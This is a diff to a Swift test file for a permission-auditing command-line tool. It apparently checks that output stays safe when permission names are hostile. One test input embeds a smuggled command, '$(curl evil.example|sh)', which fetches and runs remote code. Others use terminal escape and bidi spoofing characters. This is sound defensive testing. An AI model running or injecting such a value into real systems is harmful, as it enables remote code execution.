@@ -58,8 +58,10 @@ import Testing
                 HostileChecks.expectNoPipelineCommand(run.stdout, arguments)
                 let lines = run.stdout.split(separator: "\n")
                 #expect(lines.allSatisfy { $0.unicodeScalars.count <= 100 }, "\(arguments)")
-                let body = lines.drop { !$0.hasPrefix("---") }.dropFirst().prefix { !$0.hasPrefix("! ") }
-                #expect(body.count == rows, "\(arguments)")
+                // Each table (diff tenant prints one per kind of change): its lines after the rule, up to a blank line.
+                let tables = run.stdout.components(separatedBy: "\n\n").map { $0.split(separator: "\n") }
+                let body = tables.map { $0.drop { !$0.hasPrefix("---") }.dropFirst().count }.reduce(0, +)
+                #expect(body == rows, "\(arguments)")
                 #expect(run.stdout.contains("! text with control, bidi or invisible characters"), "\(arguments)")
             }
         }
@@ -134,7 +136,7 @@ import Testing
     @Test func showsPagesAreSafeInEveryFormat() throws {
         try Self.withHostileDatabase { folder in
             for name in ["CallDelegation.ReadWrite", "Evil.\u{1B}[2J.Read", "Mail.Read\"$(curl evil.example|sh)"] {
-                let text = try Run.permaudit(["show", name, "--db", "db.sqlite"], in: folder)
+                let text = try Run.permaudit(["show", name, "--db", "db.sqlite", "--format", "table"], in: folder)
                 #expect(text.status == 0, "\(text.stderr)")
                 HostileChecks.expectNoRawControl(text.stdout, allowing: ["\n"], ["show", name])
                 HostileChecks.expectNoPipelineCommand(text.stdout, ["show", name])
@@ -158,7 +160,7 @@ import Testing
                 HostileChecks.expectNoRawControl(json.stdout, allowing: ["\n"], ["show", name, "json"])
                 #expect((try? JSONSerialization.jsonObject(with: Data(json.stdout.utf8))) != nil)
             }
-            let holders = try Run.permaudit(["show", "CallDelegation.ReadWrite", "--db", "db.sqlite"], in: folder)
+            let holders = try Run.permaudit(["show", "CallDelegation.ReadWrite", "--db", "db.sqlite", "--format", "table"], in: folder)
             #expect(holders.stdout.contains("!Micro\\u202etfos Graph (thirdParty): AllPrincipals  [! clientDisplayName (bidi control)]"))
         }
     }
